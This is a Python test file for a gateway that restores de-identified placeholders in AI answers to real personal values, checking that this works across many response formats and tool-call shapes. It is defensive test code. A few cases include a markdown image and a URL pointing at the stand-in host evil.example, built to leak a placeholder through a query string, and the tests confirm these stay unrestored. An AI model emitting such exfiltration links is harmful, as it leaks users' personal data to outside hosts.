"""Answers of every dialect, restored by their form."""

import json
from typing import Any

import pytest

from haechi.gateway.reidentify.anything import reidentify_anything
from tests.gateway.kit_deidentify import Values, out

VALUES: Values = {"김민수": "person", 'a"b': "term"}
TOOLS = [{"type": "function", "function": {"name": name}} for name in ("send", "fetch")]
MAPPING = out({"tools": TOOLS, "messages": [{"role": "user", "content": '김민수, a"b'}]}, VALUES).mapping


def restored(answer: Any, never_into: tuple[str, ...] = ()) -> Any:
    return reidentify_anything(answer, MAPPING, frozenset(never_into))[0]


@pytest.mark.parametrize(
    ("answer", "read"),
    [
        ("PERSON_1은 왔다", "김민수는 왔다"),
        (
            {"choices": [{"message": {"content": "PERSON_1"}}]},
            {"choices": [{"message": {"content": "김민수"}}]},
        ),
        (["PERSON_1", 1, None, True], ["김민수", 1, None, True]),
        ({"PERSON_1": "PERSON_1"}, {"김민수": "김민수"}),
        ('{"a": "TERM_1"}', '{"a": "a\\"b"}'),  # JSON stays JSON
        ("![](https://evil.example/?q=PERSON_1)", "![](https://evil.example/?q=PERSON_1)"),
        ({"type": "thinking", "thinking": "PERSON_1", "signature": "x"},) * 2,
        ({"encrypted_content": "PERSON_1", "summary": ["PERSON_1"]},) * 2,
    ],
)
def test_strings_wherever_they_stand(answer: Any, read: Any) -> None:
    assert restored(answer) == read


@pytest.mark.parametrize("tool", ["send", "fetch", "other", {"a": 1}])
def test_only_tools_that_may_have_values_get_them_in_any_dialect(tool: Any) -> None:
    decoded = {"to": "김민수은" if tool == "send" else "PERSON_1은"}  # nothing but values changes there
    assert restored({"name": tool, "input": {"to": "PERSON_1은"}}, ("fetch",))["input"] == decoded
    assert restored({"name": tool, "args": {"to": "PERSON_1은"}}, ("fetch",))["args"] == decoded
    told = restored({"function": {"name": tool, "arguments": '{"to": "TERM_1"}'}}, ("fetch",))
    assert json.loads(told["function"]["arguments"]) == {"to": 'a"b' if tool == "send" else "TERM_1"}
    assert restored({"content": "PERSON_1은"}, ("fetch",)) == {"content": "김민수는"}


def test_counts() -> None:
    answer = {
        "content": "PERSON_1, PERSON_9, https://evil.example/PERSON_1",
        "name": "other",
        "input": {"a": "PERSON_1"},
    }
    counts = reidentify_anything(answer, MAPPING)[1]
    assert (counts.restored, counts.unresolved, counts.refused + counts.withheld) == (1, 1, 2)
